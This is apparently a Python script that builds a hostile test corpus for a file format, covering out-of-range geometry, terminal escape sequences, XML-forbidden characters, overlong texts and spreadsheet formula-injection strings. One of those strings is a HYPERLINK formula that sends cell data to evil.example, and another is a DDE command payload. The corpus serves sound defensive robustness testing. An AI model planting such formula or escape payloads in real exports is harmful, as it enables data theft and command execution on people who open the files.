"""Write the hostile corpus: tests/data/hostile/*.oppspace and expected.json.

    .venv/bin/python tests/data/make_hostile.py

Maps a hostile or unlucky partner might send: geometry at and beyond the format's limits,
control characters and terminal escapes in every kind of text, spreadsheet formulas, the
longest texts allowed. ``expected.json`` says, per file, ``null`` when it must load (and then
export and open within a bound) or a fragment of the one-line refusal. Files that must be
made at test time (a FIFO, links to devices, a million wrong entries, 60 MiB) are made by
tests/robust/test_hostile.py.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any, Callable

HERE = Path(__file__).resolve().parent
OUT = HERE / "hostile"
BASE = HERE / "complete.oppspace"
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31m\x9b1m"
XML_FORBIDDEN = "\x00\x01\x08\x0b\x0c\x1f\ufffe\uffff"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&C2,"Click")', "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\tTab", "\rReturn"]
Edit = Callable[[dict[str, Any]], None]


def _every_size(value: float) -> Edit:
    def edit(d: dict[str, Any]) -> None:
        for phase in d["phases"]:
            phase["width"] = value
        for actor in d["actors"]:
            actor["lane_height"] = value
        for act in d["activities"]:
            act.update(width=value, height=value)
    return edit


def _set(collection: str, field: str, value: Any) -> Edit:
    return lambda d: d[collection][0].__setitem__(field, value)


def _at_the_limits(d: dict[str, Any]) -> None:
    _every_size(100_000.0)(d)
    for i, act in enumerate(d["activities"]):
        act.update(x=1_000_000.0 if i % 2 else -1_000_000.0, y=-1_000_000.0 if i % 3 else 1_000_000.0)


def _tiny(d: dict[str, Any]) -> None:
    _every_size(5e-324)(d)
    for act in d["activities"]:
        act["title"] = "ordet " * 300 + "x" * 2000


def _text_everywhere(text: str) -> Edit:
    def edit(d: dict[str, Any]) -> None:
        d["meta"]["title"] += text
        for key in ("phases", "actors"):
            for obj in d[key]:
                obj["name"] += text
        for act in d["activities"]:
            act["title"] += text
            act["description"] += text
        for flow in d["flows"]:
            flow.update(what=flow["what"] + text, when=text + flow["when"], form=text)
        _rename_ids(d, text)
    return edit


def _rename_ids(d: dict[str, Any], suffix: str) -> None:
    """Every id gets ``suffix``, references too (the text is in the JSON, so a plain replace
    of each quoted id does it)."""
    text = json.dumps(d)
    ids = [o["id"] for k in ("phases", "actors", "activities", "flows") for o in d[k]]
    for old in sorted(ids, key=len, reverse=True):
        text = text.replace(json.dumps(old), json.dumps(old + suffix))
    d.clear()
    d.update(json.loads(text))


def _formulas(d: dict[str, Any]) -> None:
    for flow, formula in zip(d["flows"], FORMULAS * 10):
        flow["what"] = formula
        flow["form"] = formula
    d["activities"][0]["title"] = FORMULAS[0]
    d["actors"][0]["name"] = "@" + d["actors"][0]["name"]


def _longest(d: dict[str, Any]) -> None:
    d["meta"]["title"] = "Titel " * 16_666
    d["meta"]["description"] = "æ" * 100_000
    d["activities"][0]["title"] = "x" * 100_000
    d["flows"][0]["what"] = "ord " * 25_000
    d["actors"][0]["name"] = "Navn" * 25_000


CORPUS: dict[str, tuple[Edit, str | None]] = {
    "geometry-at-the-limits": (_at_the_limits, None),
    "geometry-tiny-sizes-long-titles": (_tiny, None),
    "geometry-x-minus-1e308": (_set("activities", "x", -1e308), "activities[0].x:"),
    "geometry-y-1e7": (_set("activities", "y", 1e7), "activities[0].y:"),
    "geometry-lane-height-1e9": (_set("actors", "lane_height", 1e9), "actors[0].lane_height:"),
    "geometry-phase-width-1e9": (_set("phases", "width", 1e9), "phases[0].width:"),
    "geometry-activity-width-1e8": (_set("activities", "width", 1e8), "activities[0].width:"),
    "geometry-every-size-1e308": (_every_size(1e308), "phases[0].width:"),
    "geometry-negative-size": (_set("activities", "height", -5.0), "activities[0].height:"),
    "terminal-escapes-everywhere": (_text_everywhere(ESCAPES), None),
    "xml-forbidden-characters-everywhere": (_text_everywhere(XML_FORBIDDEN), None),
    "spreadsheet-formulas": (_formulas, None),
    "longest-texts": (_longest, None),
}


def main() -> None:
    OUT.mkdir(exist_ok=True)
    expected: dict[str, str | None] = {}
    for name, (edit, refusal) in CORPUS.items():
        data = json.loads(BASE.read_text(encoding="utf-8"))
        edit(data)
        (OUT / f"{name}.oppspace").write_text(json.dumps(data, indent=1, ensure_ascii=False) + "\n",
                                               encoding="utf-8")
        expected[f"{name}.oppspace"] = refusal
    (OUT / "expected.json").write_text(json.dumps(expected, indent=2) + "\n", encoding="utf-8")
    print(f"wrote {len(expected)} files to {OUT}")


if __name__ == "__main__":
    main()
